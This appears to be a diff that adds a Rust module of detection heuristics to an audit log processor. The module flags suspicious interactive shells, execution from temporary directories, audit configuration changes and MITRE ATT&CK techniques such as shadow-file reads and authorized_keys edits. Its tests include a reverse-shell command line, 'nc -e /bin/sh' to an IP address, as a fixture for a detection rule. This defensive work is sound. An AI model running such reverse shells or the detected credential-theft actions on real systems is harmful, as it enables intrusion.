@@ -0,0 +1,530 @@
+//! Built-in heuristics that attach labels to processes
+
+use std::collections::{BTreeMap, HashSet};
+
+use linux_audit_parser::{Body, Key, MessageType, Number, Value};
+use regex::bytes::RegexSet;
+use serde::{Deserialize, Serialize};
+
+use crate::config::regex_set;
+use crate::proc::Process;
+
+/// Detect interactive shells that are spawned by network-facing
+/// services.
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct SuspiciousShell {
+    /// Names of shell executables
+    #[serde(default = "default_shells")]
+    pub shells: HashSet<String>,
+    /// Process labels of services
+    #[serde(default, rename = "service-labels")]
+    pub service_labels: HashSet<String>,
+    /// Executables of services
+    #[serde(default, rename = "service-exe", with = "regex_set")]
+    pub service_exe: RegexSet,
+    /// Label that is attached to matching processes
+    #[serde(default = "default_suspicious_shell_label")]
+    pub label: String,
+}
+
+pub(crate) fn default_shells() -> HashSet<String> {
+    ["sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish"]
+        .iter()
+        .map(|s| s.to_string())
+        .collect()
+}
+
+fn default_suspicious_shell_label() -> String {
+    "suspicious_shell".into()
+}
+
+impl Default for SuspiciousShell {
+    fn default() -> Self {
+        SuspiciousShell {
+            shells: default_shells(),
+            service_labels: HashSet::new(),
+            service_exe: RegexSet::empty(),
+            label: default_suspicious_shell_label(),
+        }
+    }
+}
+
+impl SuspiciousShell {
+    /// Returns true if `exe` has been spawned by `parent` as an
+    /// interactive shell, i.e. attached to a terminal (`tty`) or
+    /// run with `-i`.
+    pub fn matches(
+        &self,
+        exe: &[u8],
+        tty: Option<&[u8]>,
+        argv: &[Vec<u8>],
+        parent: &Process,
+    ) -> bool {
+        let base = exe.rsplit(|&c| c == b'/').next().unwrap_or_default();
+        if !self.shells.iter().any(|s| s.as_bytes() == base) {
+            return false;
+        }
+        let has_tty = tty.is_some_and(|t| !t.is_empty() && t != b"(none)");
+        let has_interactive_flag = argv.iter().skip(1).any(|arg| {
+            arg.len() > 1
+                && arg[0] == b'-'
+                && arg[1] != b'-'
+                && arg[1..].iter().all(u8::is_ascii_alphabetic)
+                && arg[1..].contains(&b'i')
+        });
+        if !has_tty && !has_interactive_flag {
+            return false;
+        }
+        parent
+            .labels
+            .iter()
+            .any(|l| self.service_labels.iter().any(|s| s.as_bytes() == l))
+            || parent
+                .exe
+                .as_ref()
+                .is_some_and(|exe| self.service_exe.is_match(exe))
+    }
+}
+
+/// Detect programs that are executed from temporary or
+/// world-writable locations.
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct ExecFromTmp {
+    /// Directories that are considered temporary
+    #[serde(default = "default_tmp_directories")]
+    pub directories: Vec<String>,
+    /// Also match if any PATH item is world-writable
+    #[serde(default = "crate::config::true_value", rename = "world-writable")]
+    pub world_writable: bool,
+    /// Label that is attached to matching processes
+    #[serde(default = "default_exec_from_tmp_label")]
+    pub label: String,
+}
+
+fn default_tmp_directories() -> Vec<String> {
+    ["/tmp", "/dev/shm", "/var/tmp"]
+        .iter()
+        .map(|s| s.to_string())
+        .collect()
+}
+
+fn default_exec_from_tmp_label() -> String {
+    "exec_from_tmp".into()
+}
+
+impl Default for ExecFromTmp {
+    fn default() -> Self {
+        ExecFromTmp {
+            directories: default_tmp_directories(),
+            world_writable: true,
+            label: default_exec_from_tmp_label(),
+        }
+    }
+}
+
+impl ExecFromTmp {
+    /// Returns true if `exe` is located within one of the configured
+    /// directories or if any of the file `modes` has the
+    /// world-writable bit set.
+    pub fn matches(&self, exe: &[u8], modes: &[u64]) -> bool {
+        const S_IWOTH: u64 = 0o002;
+        self.directories.iter().any(|dir| {
+            let dir = dir.trim_end_matches('/').as_bytes();
+            exe.len() > dir.len() && exe.starts_with(dir) && exe[dir.len()] == b'/'
+        }) || (self.world_writable && modes.iter().any(|m| m & S_IWOTH != 0))
+    }
+}
+
+/// Track the audit configuration from `auditd` lifecycle and
+/// `CONFIG_CHANGE` records, and label processes that change it.
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct AuditConfig {
+    /// Label that is attached to processes that change the audit
+    /// configuration
+    #[serde(default = "default_audit_config_label")]
+    pub label: String,
+}
+
+fn default_audit_config_label() -> String {
+    "audit_config_change".into()
+}
+
+impl Default for AuditConfig {
+    fn default() -> Self {
+        AuditConfig {
+            label: default_audit_config_label(),
+        }
+    }
+}
+
+/// Tag events with MITRE ATT&CK technique IDs
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct Attack {
+    /// Also use the built-in rules, see `DEFAULT_ATTACK_RULES`
+    #[serde(default = "crate::config::true_value", rename = "default-rules")]
+    pub default_rules: bool,
+    #[serde(default)]
+    pub rules: Vec<AttackRule>,
+}
+
+impl Default for Attack {
+    fn default() -> Self {
+        Attack {
+            default_rules: true,
+            rules: vec![],
+        }
+    }
+}
+
+impl Attack {
+    /// Returns the configured rules, followed by the built-in rules
+    /// if they are enabled
+    pub fn rules(&self) -> Vec<AttackRule> {
+        let mut rules = self.rules.clone();
+        if self.default_rules {
+            rules.extend(DEFAULT_ATTACK_RULES.iter().map(
+                |(technique, syscalls, exe, argv, path)| AttackRule {
+                    technique: technique.to_string(),
+                    syscalls: syscalls.iter().map(|s| s.to_string()).collect(),
+                    exe: RegexSet::new(*exe).unwrap(),
+                    argv: RegexSet::new(*argv).unwrap(),
+                    path: RegexSet::new(*path).unwrap(),
+                },
+            ));
+        }
+        rules
+    }
+}
+
+/// A technique is attached to events that match all conditions that
+/// are not empty.
+#[derive(Clone, Debug, Serialize, Deserialize)]
+pub struct AttackRule {
+    /// Technique ID, e.g. `T1059.004`
+    pub technique: String,
+    /// Syscall names
+    #[serde(default)]
+    pub syscalls: HashSet<String>,
+    /// Executable of the process
+    #[serde(default, with = "regex_set")]
+    pub exe: RegexSet,
+    /// Command line of `execve` events, arguments separated by spaces
+    #[serde(default, with = "regex_set")]
+    pub argv: RegexSet,
+    /// Name of any `PATH` item
+    #[serde(default, with = "regex_set")]
+    pub path: RegexSet,
+}
+
+impl AttackRule {
+    pub fn matches(
+        &self,
+        syscall: Option<&str>,
+        exe: Option<&[u8]>,
+        argv: Option<&[u8]>,
+        paths: &[&[u8]],
+    ) -> bool {
+        (self.syscalls.is_empty() || syscall.is_some_and(|s| self.syscalls.contains(s)))
+            && (self.exe.is_empty() || exe.is_some_and(|e| self.exe.is_match(e)))
+            && (self.argv.is_empty() || argv.is_some_and(|a| self.argv.is_match(a)))
+            && (self.path.is_empty() || paths.iter().any(|p| self.path.is_match(p)))
+    }
+}
+
+type RuleDef = (
+    &'static str,
+    &'static [&'static str],
+    &'static [&'static str],
+    &'static [&'static str],
+    &'static [&'static str],
+);
+
+/// Built-in rules: technique, syscalls, exe, argv, path
+const DEFAULT_ATTACK_RULES: &[RuleDef] = &[
+    // Command and Scripting Interpreter: Unix Shell
+    (
+        "T1059.004",
+        &["execve", "execveat"],
+        &["/(?:ba|da|z|k|mk|a)?sh$"],
+        &[r"^\S+ (?:.* )?-[a-z]*c[a-z]* "],
+        &[],
+    ),
+    // Command and Scripting Interpreter: Python
+    (
+        "T1059.006",
+        &["execve", "execveat"],
+        &[r"/python[0-9.]*$"],
+        &[r"^\S+ (?:.* )?-c "],
+        &[],
+    ),
+    // Scheduled Task/Job: Cron
+    ("T1053.003", &[], &["/crontab$"], &[], &[]),
+    (
+        "T1053.003",
+        &[
+            "open",
+            "openat",
+            "openat2",
+            "creat",
+            "rename",
+            "renameat",
+            "renameat2",
+        ],
+        &[],
+        &[],
+        &["^/etc/cron", "^/var/spool/cron/"],
+    ),
+    // OS Credential Dumping: /etc/passwd and /etc/shadow
+    (
+        "T1003.008",
+        &["open", "openat", "openat2"],
+        &[],
+        &[],
+        &["^/etc/g?shadow$"],
+    ),
+    // Account Manipulation: SSH Authorized Keys
+    ("T1098.004", &[], &[], &[], &[r"/\.ssh/authorized_keys2?$"]),
+    // Indicator Removal: Clear Command History
+    (
+        "T1070.003",
+        &[
+            "unlink",
+            "unlinkat",
+            "truncate",
+            "rename",
+            "renameat",
+            "renameat2",
+        ],
+        &[],
+        &[],
+        &[r"/\.(?:bash|zsh|sh|ash)_history$"],
+    ),
+    // Boot or Logon Autostart Execution: Kernel Modules and Extensions
+    ("T1547.006", &["init_module", "finit_module"], &[], &[], &[]),
+    // Ingress Tool Transfer
+    (
+        "T1105",
+        &["execve", "execveat"],
+        &["/(?:curl|wget|tftp|scp|sftp)$"],
+        &[],
+        &[],
+    ),
+    // System Owner/User Discovery
+    (
+        "T1033",
+        &["execve", "execveat"],
+        &["/(?:whoami|id|who|w|users)$"],
+        &[],
+        &[],
+    ),
+];
+
+/// Kernel settings that are reported in `CONFIG_CHANGE` records
+const AUDIT_SETTINGS: &[&str] = &[
+    "audit_enabled",
+    "audit_failure",
+    "audit_pid",
+    "audit_rate_limit",
+    "audit_backlog_limit",
+    "audit_backlog_wait_time",
+];
+
+/// Audit configuration as observed from `DAEMON_*` and
+/// `CONFIG_CHANGE` records
+#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct AuditConfigState {
+    pub daemon_running: Option<bool>,
+    pub daemon_pid: Option<i64>,
+    pub daemon_version: Option<String>,
+    /// Most recent values of kernel settings, see `AUDIT_SETTINGS`
+    pub settings: BTreeMap<String, i64>,
+    pub rules_added: u64,
+    pub rules_removed: u64,
+}
+
+impl AuditConfigState {
+    /// Updates the state from a record of type `ty`. Returns false if
+    /// the record is not relevant.
+    pub fn update(&mut self, ty: MessageType, rv: &Body) -> bool {
+        let num = |name: &str| match rv.get(name) {
+            Some(Value::Number(Number::Dec(n))) => Some(*n),
+            _ => None,
+        };
+        match ty {
+            MessageType::DAEMON_START => {
+                self.daemon_running = Some(true);
+                self.daemon_pid = num("pid");
+                self.daemon_version = match rv.get("ver") {
+                    Some(Value::Str(v, _)) => Some(String::from_utf8_lossy(v).into()),
+                    _ => None,
+                };
+            }
+            MessageType::DAEMON_END | MessageType::DAEMON_ABORT => {
+                self.daemon_running = Some(false);
+            }
+            MessageType::CONFIG_CHANGE => {
+                match rv.get("op") {
+                    Some(Value::Str(b"add_rule", _)) => self.rules_added += 1,
+                    Some(Value::Str(b"remove_rule", _)) => self.rules_removed += 1,
+                    _ => {}
+                }
+                for name in AUDIT_SETTINGS {
+                    if let Some(n) = num(name) {
+                        self.settings.insert(name.to_string(), n);
+                    }
+                }
+            }
+            _ => return false,
+        }
+        true
+    }
+
+    /// Returns the state as `LAUREL_AUDIT_CONFIG` record
+    pub fn to_body<'a>(&self) -> Body<'a> {
+        let mut rv = Body::default();
+        if let Some(running) = self.daemon_running {
+            let state = if running { "running" } else { "stopped" };
+            rv.push((Key::Literal("daemon"), Value::Literal(state)));
+        }
+        if let Some(pid) = self.daemon_pid {
+            rv.push((Key::Literal("daemon_pid"), pid.into()));
+        }
+        if let Some(ver) = &self.daemon_version {
+            rv.push((Key::Literal("daemon_version"), ver.clone().into()));
+        }
+        for name in AUDIT_SETTINGS {
+            if let Some(n) = self.settings.get(*name) {
+                rv.push((Key::Literal(name), (*n).into()));
+            }
+        }
+        rv.push((Key::Literal("rules_added"), (self.rules_added as i64).into()));
+        rv.push((Key::Literal("rules_removed"), (self.rules_removed as i64).into()));
+        rv
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn suspicious_shell() {
+        let s = SuspiciousShell {
+            service_labels: ["web".to_string()].into(),
+            service_exe: RegexSet::new(["^/usr/sbin/sshd$"]).unwrap(),
+            ..SuspiciousShell::default()
+        };
+        let nginx = Process {
+            exe: Some(b"/usr/sbin/nginx"[..].into()),
+            labels: [b"web".to_vec()].into(),
+            ..Process::default()
+        };
+        let sshd = Process {
+            exe: Some(b"/usr/sbin/sshd"[..].into()),
+            ..Process::default()
+        };
+        let cron = Process {
+            exe: Some(b"/usr/sbin/cron"[..].into()),
+            ..Process::default()
+        };
+        let argv = |args: &[&str]| -> Vec<Vec<u8>> {
+            args.iter().map(|a| a.as_bytes().to_vec()).collect()
+        };
+
+        assert!(s.matches(b"/bin/bash", None, &argv(&["bash", "-i"]), &nginx));
+        assert!(s.matches(b"/bin/sh", Some(b"pts0"), &argv(&["sh"]), &nginx));
+        assert!(s.matches(b"/usr/bin/zsh", Some(b"pts1"), &argv(&["-zsh"]), &sshd));
+        assert!(!s.matches(
+            b"/bin/sh",
+            Some(b"(none)"),
+            &argv(&["sh", "-c", "id"]),
+            &nginx
+        ));
+        assert!(!s.matches(b"/bin/sh", None, &argv(&["sh", "--init-file"]), &nginx));
+        assert!(!s.matches(b"/bin/bash", Some(b"pts0"), &argv(&["bash", "-i"]), &cron));
+        assert!(!s.matches(
+            b"/usr/bin/python3",
+            Some(b"pts0"),
+            &argv(&["python3", "-i"]),
+            &nginx
+        ));
+    }
+
+    #[test]
+    fn attack_rules() {
+        let rules = Attack::default().rules();
+        let techniques = |syscall, exe: &[u8], argv: Option<&[u8]>, paths: &[&[u8]]| {
+            rules
+                .iter()
+                .filter(|r| r.matches(Some(syscall), Some(exe), argv, paths))
+                .map(|r| r.technique.as_str())
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(
+            techniques("execve", b"/usr/bin/bash", Some(b"bash -c id"), &[]),
+            ["T1059.004"]
+        );
+        assert_eq!(
+            techniques("execve", b"/usr/bin/bash", Some(b"bash -xec id"), &[]),
+            ["T1059.004"]
+        );
+        assert!(techniques("execve", b"/usr/bin/bash", Some(b"bash x.sh"), &[]).is_empty());
+        assert_eq!(
+            techniques("execve", b"/usr/bin/id", Some(b"id"), &[b"/usr/bin/id"]),
+            ["T1033"]
+        );
+        assert_eq!(
+            techniques(
+                "openat",
+                b"/usr/bin/vi",
+                None,
+                &[b"/home/user/.ssh/authorized_keys"]
+            ),
+            ["T1098.004"]
+        );
+        assert!(techniques("openat", b"/usr/bin/cat", None, &[b"/etc/passwd"]).is_empty());
+        assert_eq!(
+            techniques("openat", b"/usr/bin/cat", None, &[b"/etc/shadow"]),
+            ["T1003.008"]
+        );
+
+        let attack: Attack = toml::from_str(
+            r#"
+default-rules = false
+[[rules]]
+technique = "T1059.004"
+exe = [ "/nc$" ]
+argv = [ " -e " ]
+"#,
+        )
+        .unwrap();
+        let rules = attack.rules();
+        assert_eq!(rules.len(), 1);
+        assert!(rules[0].matches(
+            Some("execve"),
+            Some(b"/usr/bin/nc"),
+            Some(b"nc -e /bin/sh 10.0.0.1 4444"),
+            &[]
+        ));
+        assert!(!rules[0].matches(Some("execve"), Some(b"/usr/bin/nc"), None, &[]));
+    }
+
+    #[test]
+    fn exec_from_tmp() {
+        let e = ExecFromTmp {
+            directories: vec!["/tmp".into(), "/opt/incoming/".into()],
+            ..ExecFromTmp::default()
+        };
+        assert!(e.matches(b"/tmp/x", &[0o100755]));
+        assert!(e.matches(b"/tmp/.hidden/x", &[0o100755]));
+        assert!(e.matches(b"/opt/incoming/x", &[0o100755]));
+        assert!(!e.matches(b"/tmpfoo/x", &[0o100755]));
+        assert!(!e.matches(b"/usr/bin/id", &[0o100755, 0o100755]));
+        assert!(e.matches(b"/usr/local/bin/x", &[0o100777]));
+        let e = ExecFromTmp {
+            world_writable: false,
+            ..e
+        };
+        assert!(!e.matches(b"/usr/local/bin/x", &[0o100777]));
+    }
+}